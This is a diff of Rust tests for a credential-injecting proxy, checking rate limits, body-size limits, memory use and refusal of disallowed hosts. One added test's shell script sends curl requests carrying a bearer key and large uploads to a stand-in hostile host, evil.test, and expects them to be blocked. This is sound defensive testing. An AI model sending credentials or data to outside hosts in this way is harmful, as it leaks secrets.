@@ -172,6 +172,22 @@ fn a_poisoned_base_url_gets_a_placeholder_and_an_alert_in_a_sandbox_and_out_of_i
     }
 }
 
+/// What is refused before its end is a refusal to whoever asks, and no broken stream, over either HTTP.
+#[test]
+fn what_is_refused_while_its_body_comes_is_heard_as_such() {
+    let sandbox = sandbox("max_body = \"100KB\"\nlimit = \"1/h\"\n");
+    let script = r#"
+        ask() { curl -sS -o /dev/null -w '%{http_version} %{http_code}\n' "$@" -H "authorization: Bearer $KEY"; }
+        ask https://api.test/x
+        for n in $(seq 12); do ask https://evil.test/x -d '{}'; ask https://api.test/x -d '{}'; done | sort | uniq -c | tr -s ' '
+        for n in $(seq 3); do head -c 3000000 /dev/zero | ask https://evil.test/x -H 'content-type: x/y' --data-binary @-; done | sort | uniq -c | tr -s ' '
+        head -c 3000000 /dev/zero | ask https://api.test/x --data-binary @-
+        head -c 100000000 /dev/zero | ask https://evil.test/x -T - 2>/dev/null
+        for n in $(seq 3); do ask --http1.1 https://evil.test/x -d '{}'; done | uniq -c | tr -s ' '"#;
+    let ran = sandbox.call(&["-q", "proxy", "run", "-k", "KEY", "--", "sh", "-c", script]).run();
+    assert_eq!(ran.stdout(), "2 200\n 12 2 403\n 12 2 429\n 3 2 403\n2 413\n2 403\n 3 1.1 403\n", "{}", ran.stderr());
+}
+
 #[test]
 fn grpc_goes_both_ways_with_its_status_behind_the_end() {
     let sandbox = sandbox("");
@@ -238,20 +254,31 @@ fn the_proxy_takes_as_many_open_files_as_it_may_and_its_command_does_not() {
     ran.says("500\n1\n", "", 0);
 }
 
-/// A gigabyte each way by CONNECT and a gigabyte by a base URL take half a minute.
+/// So many million bytes there and back by both ways in, and what keyctl's memory was at its largest.
+fn goes_through(millions: u32) {
+    let sandbox = sandbox(BASE_URL);
+    let script = format!(
+        r#"for to in https://api.test "$API"; do
+            head -c {millions}000000 /dev/zero | curl -sS -T - "$to/upload" -H "x-api-key: $KEY" | grep -o '"size": [0-9]*'
+            curl -sS "$to/download?{millions}" -H "x-api-key: $KEY" | wc -c
+        done
+        awk '/VmHWM/ {{ print ($2 < 65536) }}' /proc/$PPID/status"#
+    );
+    let out = said(&sandbox, &script, BY_BASE_URL);
+    let each = format!("\"size\": {millions}000000\n{millions}000000\n");
+    assert_eq!(out, format!("{each}{each}1\n"));
+}
+
+#[test]
+fn a_hundred_megabytes_go_through_in_little_memory() {
+    goes_through(100);
+}
+
+/// A gigabyte takes half a minute.
 #[test]
 #[ignore = "tests/long has the time"]
 fn a_gigabyte_goes_through_in_little_memory() {
-    let sandbox = sandbox(BASE_URL);
-    let script = r#"
-        head -c 1000000000 /dev/zero | curl -sS -T - https://api.test/upload -H "x-api-key: $KEY" | cut -c 1-19
-        head -c 1000000000 /dev/zero | curl -sS -T - "$API/upload" -H "x-api-key: $KEY" | cut -c 1-19
-        awk '/VmHWM/ { print ($2 < 65536) }' /proc/$PPID/status"#;
-    let out = said(&sandbox, script, BY_BASE_URL);
-    assert_eq!(
-        out.lines().filter(|line| !line.is_empty()).collect::<Vec<_>>(),
-        ["{\"size\": 1000000000"; 2].into_iter().chain(["1"]).collect::<Vec<_>>()
-    );
+    goes_through(1000);
 }
 
 /// It is too large for a commit.
